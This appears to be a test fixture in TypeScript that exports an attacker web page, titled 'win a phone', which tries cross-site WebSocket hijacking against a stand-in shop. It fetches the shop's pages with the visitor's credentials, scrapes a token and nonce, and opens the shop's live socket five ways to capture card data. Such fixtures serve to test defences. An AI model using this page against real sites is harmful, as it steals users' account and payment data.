/**
 * A page that tries to read what belongs to the shop's user, from the browser of that user: it learns what the shop
 * tells it, and opens the socket in every way that a recipe's own page does, with what it learned or with a guess.
 */
export const attackerPage = `<!doctype html><title>win a phone</title><script>
const shop = 'shop.test';
async function learn(path, method) {
  try {
    return await (await fetch('https://' + shop + path, { method, credentials: 'include' })).text();
  } catch {
    return '';
  }
}
function listen(heard, url, protocols, firstMessage) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url, protocols);
    socket.onopen = () => {
      if (firstMessage !== null) socket.send(firstMessage);
      setTimeout(() => socket.close(), 1500);
    };
    socket.onmessage = ({ data }) => {
      heard.push(data);
      if (data.includes('card')) resolve();
      if (socket.readyState === WebSocket.OPEN && firstMessage === null) socket.send(data);
    };
    socket.onclose = () => reject();
  });
}
async function attack() {
  const page = await learn('/', 'GET');
  const token = /live-token" content="([^"]+)"/.exec(page)?.[1] ?? 'a-guess';
  const nonce = (await learn('/live-nonce', 'POST')) || 'a-guess';
  const url = 'wss://' + shop + '/live';
  const heard = [];
  // The first way that leads to the data is enough.
  const ways = [
    listen(heard, url, [], null),
    listen(heard, url + '?token=' + token, [], null),
    listen(heard, url, ['shop.v1', 'csrf.' + token], null),
    listen(heard, url, [], token),
    listen(heard, url, [], nonce),
  ];
  await Promise.any(ways).catch(() => {});
  return heard;
}
</script>`;
